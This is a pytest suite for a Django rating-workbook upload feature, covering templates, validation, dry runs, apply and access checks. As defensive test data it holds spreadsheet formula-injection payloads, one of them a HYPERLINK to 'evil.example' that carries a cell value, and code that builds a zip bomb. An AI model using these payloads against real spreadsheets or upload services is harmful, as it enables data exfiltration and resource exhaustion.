"""Rating workbooks: the template, the safe reading of uploads, the dry run, all-or-nothing apply, idempotent
re-upload, and the same rater rules as the browser form."""

import io
import zipfile

import openpyxl
import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import timezone

from accounts.choices import Role
from core.exceptions import DomainError
from core.models import Job
from evaluations.choices import EvaluationStatus, TeamRole
from evaluations.models import Evaluation, Rating, RatingUpload, TeamMember
from evaluations.services import workbooks as service
from evaluations.services.onsite import rating_save
from evaluations.workbooks import HEADER
from tests.factories import EnterpriseFactory, UserFactory, default_institution, grant

ITEMS = 148  # QMC-2024: 143 requirements and 5 eligibility conditions
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


@pytest.fixture(autouse=True)
def _media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path


@pytest.fixture
def ann(db):
    return grant(UserFactory(username="ann"), Role.ASSESSOR)


@pytest.fixture
def bob(db):
    return grant(UserFactory(username="bob"), Role.ASSESSOR)


def put_on_site(evaluation, *team):
    Evaluation.objects.filter(pk=evaluation.pk).update(
        status=EvaluationStatus.ON_SITE, institution=default_institution()
    )
    for index, person in enumerate(team):
        TeamMember.objects.create(
            evaluation=evaluation,
            assessor=person,
            role=TeamRole.LEAD if index == 0 else TeamRole.MEMBER,
            assigned_by=person,
        )
    evaluation.refresh_from_db()
    return evaluation


@pytest.fixture
def on_site(draft, ann, bob):
    return put_on_site(draft, ann, bob)


@pytest.fixture
def second(ann, alice, qmc):
    """Another enterprise's evaluation that Ann rates too."""
    enterprise = EnterpriseFactory(region_id="440100")
    evaluation = Evaluation.objects.create(enterprise=enterprise, model=qmc, cycle=2026, started_by=alice)
    return put_on_site(evaluation, ann)


def filled(content: bytes, edit=None) -> bytes:
    """The template with every rating filled in (1 for requirements, yes for conditions), then ``edit(sheet)``."""
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    sheet = workbook["ratings"]
    for row in sheet.iter_rows(min_row=2):
        row[6].value = "1" if row[5].value else "yes"
    if edit:
        edit(sheet)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def upload(user, content: bytes, name="ratings.xlsx"):
    return service.workbook_upload(file=SimpleUploadedFile(name, content, content_type=XLSX), by=user)


def template(user, evaluation=None) -> bytes:
    return service.workbook_template(user=user, evaluation=evaluation)[1]


def problems(result) -> list[tuple]:
    return [(p["kind"], p["row"], p["column"], p["code"]) for p in result.summary["errors"]]


# The template -----------------------------------------------------------------------------------------------


def test_the_template_lists_every_item_with_validation_lists_and_own_ratings(on_site, ann):
    rating_save(evaluation=on_site, code="QMC-2024/E1", value="no", comment="listed in 2024", by=ann)
    workbook = openpyxl.load_workbook(io.BytesIO(template(ann, on_site)))
    assert workbook.sheetnames == ["ratings", "instructions"]
    sheet = workbook["ratings"]
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0] == HEADER
    assert len(rows) == 1 + ITEMS
    assert {r[0] for r in rows[1:]} == {on_site.pk}
    assert {r[1] for r in rows[1:]} == {on_site.enterprise.credit_code}
    e1 = next(r for r in rows if r[3] == "QMC-2024/E1")
    assert (e1[6], e1[7]) == ("no", "listed in 2024")
    lists = {dv.formula1: str(dv.sqref) for dv in sheet.data_validations.dataValidation}
    assert set(lists) == {'"1,0.8,0.5,0,na"', '"yes,no"'}
    assert "G2" in lists['"1,0.8,0.5,0,na"']
    assert "质量" in rows[1][4]
    assert any(c.isascii() and c.isalpha() for c in rows[1][4])


def test_the_batch_template_has_a_row_block_per_evaluation_and_neutralises_formulas(on_site, second, ann):
    second.enterprise.name_zh = '=HYPERLINK("http://evil","点我")'
    second.enterprise.save(update_fields=["name_zh"])
    name, content = service.workbook_template(user=ann)
    assert name.startswith("ratings-batch-")
    assert name.endswith(".xlsx")
    rows = list(openpyxl.load_workbook(io.BytesIO(content))["ratings"].iter_rows(min_row=2, values_only=True))
    assert [r[0] for r in rows] == [on_site.pk] * ITEMS + [second.pk] * ITEMS
    assert rows[-1][2].startswith("'=HYPERLINK")


def test_a_rater_who_already_submitted_gets_no_template(on_site, ann):
    TeamMember.objects.filter(evaluation=on_site, assessor=ann).update(ratings_submitted_at=timezone.now())
    with pytest.raises(DomainError, match="submitted"):
        template(ann, on_site)


# Dry run and apply ------------------------------------------------------------------------------------------


def test_the_dry_run_writes_nothing_and_says_what_would_change(on_site, ann):
    rating_save(evaluation=on_site, code="QMC-2024/E1", value="no", comment="listed in 2024", by=ann)
    rating_save(evaluation=on_site, code="QMC-2024/E2", value="yes", by=ann)
    result, created = upload(ann, filled(template(ann, on_site)))
    assert created
    assert result.summary["error_count"] == 0
    assert result.summary["totals"] == {"create": ITEMS - 2, "change": 1, "unchanged": 1}
    assert Rating.objects.filter(evaluation=on_site).count() == 2
    assert Rating.objects.get(evaluation=on_site, condition__code="QMC-2024/E1").value == "no"
    assert result.applied_at is None


def test_apply_writes_every_rating_and_a_second_upload_of_the_file_changes_nothing(on_site, ann):
    content = filled(template(ann, on_site))
    first, _ = upload(ann, content)
    outcome = service.workbook_apply_start(upload=first, by=ann)
    assert outcome == {"already_applied": False, "create": ITEMS, "change": 0, "unchanged": 0}
    assert Rating.objects.filter(evaluation=on_site, assessor=ann).count() == ITEMS
    stamps = sorted(Rating.objects.values_list("updated_at", flat=True))

    again, created = upload(ann, content, name="copy.xlsx")
    assert (again.pk, created) == (first.pk, False)
    assert again.applied_at is not None
    repeat = service.workbook_apply_start(upload=again, by=ann)
    assert repeat["already_applied"]
    assert "already applied on" in repeat["message"]
    assert sorted(Rating.objects.values_list("updated_at", flat=True)) == stamps
    assert RatingUpload.objects.count() == 1


def test_changed_ratings_are_updated_in_place(on_site, ann):
    service.workbook_apply_start(upload=upload(ann, filled(template(ann, on_site)))[0], by=ann)

    def lower(sheet):
        sheet["G2"].value = 0.5  # typed as a number in Excel
        sheet["H2"].value = "=1+1 was written here as text"

    result, _ = upload(ann, _edit(template(ann, on_site), lower))
    assert result.summary["error_count"] == 1  # the formula-looking comment
    assert problems(result)[0][:3] == ("formula", 2, "H")

    def lower_only(sheet):
        sheet["G2"].value = 0.5

    result, _ = upload(ann, _edit(template(ann, on_site), lower_only))
    assert result.summary["totals"] == {"create": 0, "change": 1, "unchanged": ITEMS - 1}
    service.workbook_apply_start(upload=result, by=ann)
    assert Rating.objects.filter(assessor=ann, value="0.5").count() == 1
    assert Rating.objects.filter(assessor=ann).count() == ITEMS


def _edit(content: bytes, edit) -> bytes:
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    edit(workbook["ratings"])
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


# Bad files: a clear error where it is, and nothing written ---------------------------------------------------


def _wrong_code(sheet):
    sheet.append([*[cell.value for cell in sheet[2]][:3], "QMC-2024/D9/9.9/L1", "", 1, "1", None])


def _off_scale(sheet):
    sheet["G3"].value = "0.7"


def _duplicate(sheet):
    sheet.append([cell.value for cell in sheet[4]])


def _missing(sheet):
    sheet.delete_rows(10, 3)


def _hyperlink(sheet):
    sheet["H6"].value = '=HYPERLINK("http://evil.example/?d="&A1,"click")'


def _na_without_reason(sheet):
    sheet["G2"].value = "na"


@pytest.mark.parametrize(
    ("edit", "expected"),
    [
        (_wrong_code, ("unknown_code", ITEMS + 2, "D", "QMC-2024/D9/9.9/L1")),
        (_off_scale, ("bad_value", 3, "G")),
        (_duplicate, ("duplicate", ITEMS + 2, "D")),
        (_missing, ("missing_rows", None, "D")),
        (_hyperlink, ("formula", 6, "H")),
        (_na_without_reason, ("bad_value", 2, "G")),
    ],
    ids=["wrong code", "off the scale", "duplicate row", "missing rows", "hyperlink formula", "na not allowed"],
)
def test_a_bad_row_is_a_clear_error_and_nothing_is_written(on_site, ann, edit, expected):
    result, _ = upload(ann, filled(template(ann, on_site), edit))
    assert result.summary["error_count"] == 1, result.summary["errors"]
    assert problems(result)[0][: len(expected)] == expected
    assert result.summary["errors"][0]["sheet"] == "ratings"
    assert result.summary["errors"][0]["message"]
    with pytest.raises(DomainError):
        service.workbook_apply_start(upload=result, by=ann)
    with pytest.raises(DomainError):
        service.workbook_apply(upload=result)
    assert not Rating.objects.exists()


def test_evaluations_not_rated_by_the_uploader_are_refused_by_the_one_guard(on_site, ann, bob, second):
    TeamMember.objects.filter(evaluation=on_site, assessor=bob).update(ratings_submitted_at=timezone.now())
    content = filled(template(ann))  # Ann's batch: both evaluations; Bob is on the first only
    result, _ = upload(bob, content)
    kinds = {p["kind"]: p for p in result.summary["errors"]}
    assert set(kinds) == {"ratings_submitted", "not_yours"}
    assert kinds["ratings_submitted"]["row"] == 2
    assert kinds["ratings_submitted"]["column"] == "A"
    assert str(second.pk) in kinds["not_yours"]["message"]
    assert not Rating.objects.exists()


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"evaluation,code,rating\n1,E1,yes\n", "not an Excel workbook"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "old-style .xls"),
        (b"PK\x03\x04 this is not really a zip", "damaged"),
    ],
    ids=["csv renamed", "xls renamed", "broken zip"],
)
def test_a_file_that_is_not_an_xlsx_is_refused_and_not_kept(ann, content, message):
    with pytest.raises(ValidationError, match=message):
        upload(ann, content)
    assert not RatingUpload.objects.exists()


def test_a_zip_bomb_is_refused_before_it_is_unpacked(on_site, ann):
    bomb = io.BytesIO()
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as archive:
        source = zipfile.ZipFile(io.BytesIO(template(ann, on_site)))
        for info in source.infolist():
            archive.writestr(info.filename, source.read(info.filename))
        archive.writestr("xl/media/padding.bin", b"\0" * 300_000_000)  # 300 MB of zeros, about 300 KB packed
    with pytest.raises(ValidationError, match="zip bomb"):
        upload(ann, bomb.getvalue())
    assert not RatingUpload.objects.exists()
    assert not Rating.objects.exists()


def test_apply_is_all_or_nothing_when_an_evaluation_moved_on_after_the_dry_run(on_site, second, ann):
    result, _ = upload(ann, filled(template(ann)))
    assert result.summary["error_count"] == 0
    assert len(result.summary["evaluations"]) == 2
    Evaluation.objects.filter(pk=second.pk).update(status=EvaluationStatus.CONSENSUS)
    with pytest.raises(DomainError, match="nothing was written"):
        service.workbook_apply_start(upload=result, by=ann)
    assert not Rating.objects.exists()
    result.refresh_from_db()
    assert result.applied_at is None
    assert [p["kind"] for p in result.summary["errors"]] == ["wrong_status"]


def test_large_workbooks_are_applied_by_a_background_job(
    on_site, second, ann, settings, django_capture_on_commit_callbacks
):
    settings.WORKBOOK_BACKGROUND_ROWS = 100
    result, _ = upload(ann, filled(template(ann)))
    with django_capture_on_commit_callbacks(execute=True):
        job = service.workbook_apply_start(upload=result, by=ann)
    assert isinstance(job, Job)
    job.refresh_from_db()
    assert (job.status, job.progress_done, job.progress_total) == ("done", 2 * 2 * ITEMS, 2 * 2 * ITEMS)
    assert job.result == {"already_applied": False, "create": 2 * ITEMS, "change": 0, "unchanged": 0}
    assert Rating.objects.filter(assessor=ann).count() == 2 * ITEMS


# Pages ------------------------------------------------------------------------------------------------------


def test_the_assessor_downloads_uploads_sees_the_dry_run_and_applies(client, on_site, ann):
    client.force_login(ann)
    page = client.get(reverse("evaluations:workbook_upload"))
    assert page.status_code == 200
    assert reverse("evaluations:workbook_template", kwargs={"pk": on_site.pk}) in page.text
    download = client.get(reverse("evaluations:workbook_template", kwargs={"pk": on_site.pk}))
    assert download["Content-Type"] == XLSX
    assert download["Content-Disposition"] == (
        f'attachment; filename="ratings-{on_site.pk}-{on_site.enterprise.credit_code}.xlsx"'
    )
    content = filled(download.content)
    response = client.post(
        reverse("evaluations:workbook_upload"), {"file": SimpleUploadedFile("我的评分.xlsx", content, XLSX)}
    )
    detail = response.url
    assert detail == reverse("evaluations:workbook_detail", kwargs={"pk": RatingUpload.objects.get().pk})
    page = client.get(detail)
    assert "What applying would change (dry run)" in page.text
    assert not Rating.objects.exists()
    client.post(detail)
    assert Rating.objects.filter(assessor=ann).count() == ITEMS
    again = client.post(
        reverse("evaluations:workbook_upload"), {"file": SimpleUploadedFile("again.xlsx", content, XLSX)}, follow=True
    )
    assert "already applied on" in again.text


def test_the_problem_list_names_row_and_column_and_others_get_404(client, on_site, ann, bob):
    result, _ = upload(ann, filled(template(ann, on_site), _off_scale))
    client.force_login(ann)
    page = client.get(reverse("evaluations:workbook_detail", kwargs={"pk": result.pk}))
    assert "0.7" in page.text
    assert 'id="problems"' in page.text
    client.force_login(bob)
    assert client.get(reverse("evaluations:workbook_detail", kwargs={"pk": result.pk})).status_code == 404
    assert client.post(reverse("evaluations:workbook_detail", kwargs={"pk": result.pk})).status_code == 404


def test_a_renamed_file_is_shown_on_the_upload_form(client, ann):
    client.force_login(ann)
    response = client.post(
        reverse("evaluations:workbook_upload"), {"file": SimpleUploadedFile("ratings.xlsx", b"a,b\n1,2\n", XLSX)}
    )
    assert response.status_code == 400
    assert "not an Excel workbook" in response.text


def test_people_without_the_assessor_role_are_refused(client, alice):
    client.force_login(alice)
    assert client.get(reverse("evaluations:workbook_upload")).status_code == 403
    assert client.get(reverse("evaluations:workbook_batch_template")).status_code == 403


def test_a_workbook_being_applied_shows_a_progress_bar_that_polls_its_job(client, on_site, ann):
    result, _ = upload(ann, filled(template(ann, on_site)))
    job = Job.objects.create(kind=service.APPLY_JOB, input={"upload": result.pk}, created_by=ann, progress_total=10)
    result.summary = {**result.summary, "job_id": job.pk}
    result.save(update_fields=["summary"])
    client.force_login(ann)
    page = client.get(reverse("evaluations:workbook_detail", kwargs={"pk": result.pk})).text
    assert f'data-status-url="{reverse("core:job_status", kwargs={"pk": job.pk})}"' in page
    assert "js/job-progress.js" in page
    assert 'type="submit" class="button">Apply' not in page  # no second apply while the job runs
